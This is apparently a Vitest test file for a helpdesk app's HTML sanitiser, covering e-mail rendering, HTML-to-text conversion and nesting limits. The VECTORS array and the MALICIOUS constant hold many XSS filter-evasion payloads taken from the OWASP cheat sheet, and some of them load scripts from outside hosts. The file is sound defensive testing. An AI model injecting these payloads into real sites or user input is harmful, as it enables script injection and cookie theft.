import * as fs from "node:fs"
import * as os from "node:os"
import * as path from "node:path"
import { NodeFileSystem } from "@effect/platform-node"
import { SqlClient } from "@effect/sql"
import { assert, describe, expect, it, layer } from "@effect/vitest"
import { Effect, Layer } from "effect"
import {
  ALLOWED_TAGS,
  htmlToText,
  IMAGE_SCHEMES,
  LINK_SCHEMES,
  MAX_HTML_DEPTH,
  nestingDepth,
  sanitizeHtml
} from "../src/Http/Html.js"
import { emlFileName, emlTransport, MailTransport } from "../src/Mail/MailTransport.js"
import { outboxRows, parseMessage, withOutbox } from "./MailSupport.js"
import { assertRefused, TestAppLive } from "./support/TestApp.js"
import * as Tickets from "./TicketsSupport.js"

/**
 * HTML from callers (`description_html`, `content_html`) is stored, returned and e-mailed only after sanitising
 * (docs/decisions/0804-html-sanitising.md), and its plain text is derived by a real HTML-to-text conversion.
 */

/** Filter-evasion vectors, most from the OWASP XSS Filter Evasion Cheat Sheet, plus mutation-XSS classics. */
const VECTORS: ReadonlyArray<string> = [
  `<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>`,
  `<script>alert(1)</script>`,
  `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>`,
  `<IMG SRC="javascript:alert('XSS');">`,
  `<IMG SRC=javascript:alert('XSS')>`,
  `<IMG SRC=JaVaScRiPt:alert('XSS')>`,
  `<IMG SRC=javascript:alert(&quot;XSS&quot;)>`,
  "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
  `<a onmouseover="alert(document.cookie)">xxs link</a>`,
  `<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>`,
  `<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>`,
  `<IMG SRC=# onmouseover="alert('xxs')">`,
  `<IMG SRC= onmouseover="alert('xxs')">`,
  `<IMG onmouseover="alert('xxs')">`,
  `<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`,
  `<img src=x onerror=alert(1)>`,
  `<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">`,
  `<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>`,
  `<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>`,
  `<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>`,
  `<IMG SRC="jav\tascript:alert('XSS');">`,
  `<IMG SRC="jav&#x09;ascript:alert('XSS');">`,
  `<IMG SRC="jav&#x0A;ascript:alert('XSS');">`,
  `<IMG SRC="jav&#x0D;ascript:alert('XSS');">`,
  `<IMG SRC=" &#14;  javascript:alert('XSS');">`,
  `<a href="jav&#x09;ascript:alert(1)">tab</a>`,
  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">entities</a>`,
  `<a href="javascript&colon;alert(1)">named entity</a>`,
  `<a href="  JavaScript:alert(1)">spaces</a>`,
  `<a href="javascript:alert(1)">plain</a>`,
  `<a href="vbscript:msgbox(1)">vbscript</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>`,
  `<IMG SRC='vbscript:msgbox("XSS")'>`,
  `<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`,
  `<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>`,
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  `<<SCRIPT>alert("XSS");//\\<</SCRIPT>`,
  `<SCRIPT SRC=http://xss.rocks/xss.js?< B >`,
  `<scr<script>ipt>alert(1)</scr</script>ipt>`,
  `<iframe src=http://xss.rocks/scriptlet.html <`,
  `<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`,
  `<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>`,
  `</TITLE><SCRIPT>alert("XSS");</SCRIPT>`,
  `<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`,
  `<BODY BACKGROUND="javascript:alert('XSS')">`,
  `<BODY ONLOAD=alert('XSS')>`,
  `<IMG DYNSRC="javascript:alert('XSS')">`,
  `<IMG LOWSRC="javascript:alert('XSS')">`,
  `<svg/onload=alert('XSS')>`,
  `<svg><script>alert(1)</script></svg>`,
  `<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`,
  `<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`,
  `<STYLE>@import'http://xss.rocks/xss.css';</STYLE>`,
  `<META HTTP-EQUIV="Link" Content="<http://xss.rocks/xss.css>; REL=stylesheet">`,
  `<STYLE>BODY{-moz-binding:url("http://xss.rocks/xssmoz.xml#xss")}</STYLE>`,
  `<IMG STYLE="xss:expr/*XSS*/ession(alert('XSS'))">`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">`,
  `<TABLE BACKGROUND="javascript:alert('XSS')">`,
  `<TABLE><TD BACKGROUND="javascript:alert('XSS')">`,
  `<DIV STYLE="background-image: url(javascript:alert('XSS'))">`,
  `<div style="background:url(javascript:alert(1))">styled</div>`,
  `<DIV STYLE="width: expression(alert('XSS'));">`,
  `<BASE HREF="javascript:alert('XSS');//">`,
  `<base href="http://evil.example/">`,
  `<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>`,
  `<EMBED SRC="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" type="image/svg+xml" AllowScriptAccess="always"></EMBED>`,
  `<form action="javascript:alert(1)"><input type="submit"><button formaction="javascript:alert(2)">go</button></form>`,
  `<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->`,
  `<XSS STYLE="behavior: url(xss.htc);">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  `<svg><p><style><img src=x onerror=alert(1)></style></p></svg>`,
  `<a href="http://example.com/" onclick="alert(1)" style="color:red" target="_top">kept link</a>`,
  `<a href="//evil.example/">protocol-relative</a>`,
  `<p onclick="alert(1)" class="x" id="y">paragraph</p>`
]

const allowedTags = new Set(ALLOWED_TAGS)
const TAG = /<(\/?)([a-zA-Z][a-zA-Z0-9]*)([^>]*)>/g
const ATTRIBUTE = /\s([^\s=/>]+)(?:="([^"]*)")?/g

const decodeAttribute = (value: string) =>
  value
    .replace(/&quot;/g, '"')
    .replace(/&lt;/g, "<")
    .replace(/&gt;/g, ">")
    .replace(/&amp;/g, "&")

/** Fails unless `html` has only allowed tags, no handler/style attributes and only safe URLs. */
const assertInert = (html: string, input: string) => {
  const why = `${JSON.stringify(input)} → ${JSON.stringify(html)}`
  assert.notMatch(html, /<\s*\/?\s*(script|style|iframe|object|embed|svg|math|meta|base|link|form|input|body)/i, why)
  // Every "<" left is the start of an allowed tag (text has it escaped).
  assert.strictEqual(html.replace(TAG, "").includes("<"), false, why)
  for (const [, , name, attributes] of html.matchAll(TAG)) {
    assert.isTrue(allowedTags.has(name!.toLowerCase()), `${name} in ${why}`)
    for (const [, attribute, raw] of attributes!.matchAll(ATTRIBUTE)) {
      const key = attribute!.toLowerCase()
      assert.notMatch(key, /^on/, why)
      assert.notStrictEqual(key, "style", why)
      if (key === "href" || key === "src") {
        const url = decodeAttribute(raw ?? "")
        assert.notMatch(url, /^\s*(javascript|vbscript|data):/i, why)
        const schemes = key === "href" ? LINK_SCHEMES : IMAGE_SCHEMES
        assert.include(schemes, /^([a-z][a-z0-9+.-]*):/i.exec(url)?.[1]?.toLowerCase(), why)
      }
    }
  }
}

describe("sanitizeHtml", () => {
  it("leaves no script-capable markup in any filter-evasion vector", () => {
    expect(VECTORS.length).toBeGreaterThanOrEqual(30)
    for (const vector of VECTORS) {
      const clean = sanitizeHtml(vector)
      assertInert(clean, vector)
      assert.strictEqual(sanitizeHtml(clean), clean, `sanitising twice changes nothing: ${vector}`)
    }
  })

  it("keeps the markup of an ordinary support e-mail", () => {
    const html =
      '<h2>Your order</h2><p>Hello <strong>Jane</strong>, <em>thanks</em>!</p><ul><li>one</li><li>two</li></ul><blockquote>quoted</blockquote><pre><code>x &lt; 1</code></pre><table><thead><tr><th colspan="2">Item</th></tr></thead><tbody><tr><td>a</td><td>b</td></tr></tbody></table><p dir="rtl">שלום</p><img src="cid:logo@example.com" alt="logo" width="40" height="20" /><img src="https://example.com/a.png" alt="a" />'
    assert.strictEqual(sanitizeHtml(html), html)
  })

  it("drops scripts, handlers, styles, classes and ids, keeping the text", () => {
    assert.strictEqual(sanitizeHtml('<p onclick="alert(1)" style="color:red" class="x" id="y">Hi</p>'), "<p>Hi</p>")
    assert.strictEqual(sanitizeHtml("<script>alert(1)</script><style>p{}</style><p>ok</p>"), "<p>ok</p>")
    assert.strictEqual(sanitizeHtml("<form><p>in a form</p><textarea>typed</textarea></form>"), "<p>in a form</p>")
    assert.strictEqual(sanitizeHtml("<img src=x onerror=alert(1)>"), "")
  })

  it("keeps links in http, https and mailto only, opened apart from the page (noopener, noreferrer)", () => {
    assert.strictEqual(
      sanitizeHtml('<a href="https://example.com/?a=1&amp;b=2" target="_self" rel="opener" title="Docs">docs</a>'),
      '<a href="https://example.com/?a=1&amp;b=2" title="Docs" rel="noopener noreferrer" target="_blank">docs</a>'
    )
    assert.strictEqual(
      sanitizeHtml('<a href="mailto:help@example.com">write</a>'),
      '<a href="mailto:help@example.com" rel="noopener noreferrer" target="_blank">write</a>'
    )
    for (const href of ["javascript:alert(1)", "/relative", "//evil.example/", "#top", "ftp://example.com/", "tel:1"])
      assert.strictEqual(sanitizeHtml(`<a href="${href}">text</a>`), "text", href)
  })
})

describe("nesting depth", () => {
  it("is estimated in one pass: void elements and self-closing siblings do not nest, a close closes what it holds", () => {
    assert.strictEqual(nestingDepth("<p>a<p>b<ul><li>x<li>y</ul>"), 1)
    assert.strictEqual(nestingDepth("<div><span><b>x</b></span></div><div>y</div>"), 3)
    assert.strictEqual(nestingDepth("<div><span><b>x</div><div>y</div>"), 3)
    assert.strictEqual(nestingDepth("</b></b><i><img><br>x"), 1)
    assert.strictEqual(nestingDepth("<b>".repeat(MAX_HTML_DEPTH + 1)), MAX_HTML_DEPTH + 1)
  })

  it("deep HTML costs neither time nor the stack: its text, with what lies too deep left out as …", () => {
    const deep = `${"<b>".repeat(160_000)}x<script>alert(1)</script>`
    const started = Date.now()
    assert.strictEqual(sanitizeHtml(deep), "...")
    assert.strictEqual(htmlToText(deep), "...")
    assert.strictEqual(htmlToText(`<p>kept</p>${deep}`), "kept\n\n...")
    assert.isBelow(Date.now() - started, 5_000)
  })
})

describe("htmlToText", () => {
  it("decodes entities", () => {
    assert.strictEqual(htmlToText("caf&eacute;"), "café")
    assert.strictEqual(
      htmlToText("<p>Mon colis n&apos;arrive pas &amp; &lt;vite&gt; &#8364;5</p>"),
      "Mon colis n'arrive pas & <vite> €5"
    )
  })

  it("drops the content of <style> and <script>", () => {
    assert.strictEqual(htmlToText("<style>p{color:red}</style><p>x</p>"), "x")
    assert.strictEqual(
      htmlToText("<head><title>T</title><style>p{}</style></head><body><script>var a = 1</script><p>x</p></body>"),
      "x"
    )
  })

  it("keeps paragraphs, line breaks, lists and links, and does not wrap", () => {
    const long = "word ".repeat(40).trim()
    assert.strictEqual(
      htmlToText(
        `<h1>Title</h1><p>one<br>two</p><ul><li>a</li><li>b</li></ul><p><a href="https://example.com/x">the docs</a> and <a href="https://example.com/">https://example.com/</a></p><p>${long}</p>`
      ),
      `Title\n\none\ntwo\n\n * a\n * b\n\nthe docs [https://example.com/x] and https://example.com/\n\n${long}`
    )
  })
})

const tempDir = Effect.acquireRelease(
  Effect.sync(() => fs.mkdtempSync(path.join(os.tmpdir(), "hd-html-"))),
  (dir) => Effect.sync(() => fs.rmSync(dir, { recursive: true, force: true }))
)

const emlLayer = (dir: string) =>
  Layer.scoped(MailTransport, emlTransport(dir)).pipe(Layer.provide(NodeFileSystem.layer))

/** A leaf part of a MIME message: its content type and decoded body. */
interface Part {
  readonly type: string
  readonly body: string
}

const decodeBody = (body: string, encoding: string) => {
  if (encoding === "base64") return Buffer.from(body.replace(/\s+/g, ""), "base64").toString("utf8")
  if (encoding === "quoted-printable") {
    const bytes = body.replace(/=\r\n/g, "").replace(/=([0-9A-F]{2})/gi, (_, hex: string) => `%${hex}`)
    return decodeURIComponent(bytes.replace(/%(?![0-9A-F]{2})/gi, "%25"))
  }
  return body
}

/** The leaf parts of a raw message (multiparts opened recursively). */
const partsOf = (raw: string): ReadonlyArray<Part> => {
  const { headers, body } = parseMessage(raw)
  const contentType = headers.get("content-type")?.[0] ?? "text/plain"
  const boundary = /boundary="?([^";]+)"?/i.exec(contentType)?.[1]
  if (contentType.toLowerCase().startsWith("multipart/") && boundary !== undefined)
    return body
      .split(`--${boundary}`)
      .slice(1, -1)
      .flatMap((chunk) => partsOf(chunk.replace(/^\r\n/, "")))
  const encoding = (headers.get("content-transfer-encoding")?.[0] ?? "7bit").toLowerCase()
  return [{ type: contentType.split(";")[0]!.trim().toLowerCase(), body: decodeBody(body, encoding) }]
}

/** The text and HTML parts of the .eml file of an outbox row. */
const mailParts = (dir: string, rfcMessageId: string) => {
  const parts = partsOf(fs.readFileSync(path.join(dir, emlFileName(rfcMessageId)), "utf8"))
  return {
    text: parts.find((p) => p.type === "text/plain")?.body ?? "",
    html: parts.find((p) => p.type === "text/html")?.body ?? ""
  }
}

const MALICIOUS =
  '<p onmouseover="alert(1)">Mon colis n&apos;arrive pas au caf&eacute;.</p><script>alert("XSS")</script><style>p{color:red}</style><a href="javascript:alert(2)">click</a> <img src=x onerror=alert(3)> <a href="https://example.com/track">suivi</a>'
const MALICIOUS_CLEAN =
  '<p>Mon colis n\'arrive pas au café.</p>click  <a href="https://example.com/track" rel="noopener noreferrer" target="_blank">suivi</a>'
const MALICIOUS_TEXT = "Mon colis n'arrive pas au café.\n\nclick suivi [https://example.com/track]"

const assertMailIsClean = (mail: { readonly text: string; readonly html: string }) => {
  assert.include(mail.html, "café")
  assert.notMatch(mail.html, /<script|onmouseover|onerror|javascript:|<style/i)
  assert.include(mail.text, "Mon colis n'arrive pas au café.")
  assert.notMatch(mail.text, /&[a-z]+;|&#|color:red|alert/)
}

layer(TestAppLive, { excludeTestServices: true })("HTML from callers over HTTP", (it) => {
  it.scoped("a ticket's and a message's HTML is stored, returned and e-mailed sanitised; the text part decoded", () =>
    Effect.gen(function* () {
      const dir = yield* tempDir
      const { org, t } = yield* Tickets.organizationWithTicket({
        description: undefined,
        description_html: MALICIOUS,
        customer_email: `html-${Math.random().toString(36).slice(2, 8)}@example.com`
      })
      assert.strictEqual(t.description_html, MALICIOUS_CLEAN)
      assert.strictEqual(t.description, MALICIOUS_TEXT)

      const reply = yield* Tickets.postMessage(org, t.id, { content_html: MALICIOUS })
      assert.strictEqual(reply.status, 201, reply.text)
      assert.strictEqual(reply.body.content_html, MALICIOUS_CLEAN)
      assert.strictEqual(reply.body.content, MALICIOUS_TEXT)

      const read = yield* Tickets.readTicketBody(org, t.id)
      assert.strictEqual(read.description_html, MALICIOUS_CLEAN)
      assert.strictEqual(read.description, MALICIOUS_TEXT)

      const round = yield* withOutbox(emlLayer(dir), (outbox) => outbox.drainOnce())
      assert.include(round, { sent: 2 })
      const rows = yield* outboxRows(t.id)
      assert.deepStrictEqual(
        rows.map((r) => r.kind),
        ["ticket_created", "message"]
      )
      for (const row of rows) assertMailIsClean(mailParts(dir, row.rfcMessageId!))
    })
  )

  it.scoped("a queued mail whose HTML was stored before sanitising goes out sanitised", () =>
    Effect.gen(function* () {
      const dir = yield* tempDir
      const sql = yield* SqlClient.SqlClient
      const { t } = yield* Tickets.organizationWithTicket({
        customer_email: `old-${Math.random().toString(36).slice(2, 8)}@example.com`
      })
      yield* sql`UPDATE hd_outbox SET payload = jsonb_set(payload, '{html}', ${JSON.stringify(MALICIOUS)}::jsonb)
                 WHERE ticket_id = ${t.id}`
      yield* withOutbox(emlLayer(dir), (outbox) => outbox.drainOnce())
      const [row] = yield* outboxRows(t.id)
      const { html } = mailParts(dir, row!.rfcMessageId!)
      assert.include(html, MALICIOUS_CLEAN)
      assert.notMatch(html, /<script|onmouseover|onerror|javascript:|<style/i)
    })
  )

  it.effect("HTML with nothing left once sanitised is refused when it is all a ticket or message says", () =>
    Effect.gen(function* () {
      const org = yield* Tickets.organization
      const refused = yield* Tickets.createTicket(org, {
        subject: "Script only",
        description_html: "<script>alert(1)</script>",
        customer_email: "jane@example.com"
      })
      assert.strictEqual(refused.status, 400, refused.text)
      assert.deepStrictEqual(Object.keys(refused.body), ["description_html"])
      const t = yield* Tickets.ticket(org)
      const empty = yield* Tickets.postMessage(org, t.id, { content_html: "<script>alert(1)</script>" })
      Tickets.assertInvalid(empty, "content")
    })
  )

  it.effect("HTML nesting deeper than the limit is a 400 on its field, before any work", () =>
    Effect.gen(function* () {
      const org = yield* Tickets.organization
      const deep = `${"<div>".repeat(MAX_HTML_DEPTH + 1)}x`
      const refused = yield* Tickets.createTicket(org, {
        subject: "Deep",
        description_html: deep,
        customer_email: "jane@example.com"
      })
      assertRefused(refused, {
        description_html: [`HTML nesting elements more than ${MAX_HTML_DEPTH} deep is not accepted.`]
      })
      const t = yield* Tickets.ticket(org)
      const message = yield* Tickets.postMessage(org, t.id, { content: "x", content_html: deep })
      assert.strictEqual(message.status, 400, message.text)
      assert.deepStrictEqual(Object.keys(message.body), ["content_html"])
      const fine = yield* Tickets.postMessage(org, t.id, { content_html: `${"<div>".repeat(MAX_HTML_DEPTH)}fine` })
      assert.strictEqual(fine.status, 201, fine.text)
      assert.strictEqual(fine.body.content, "fine")
    })
  )
})
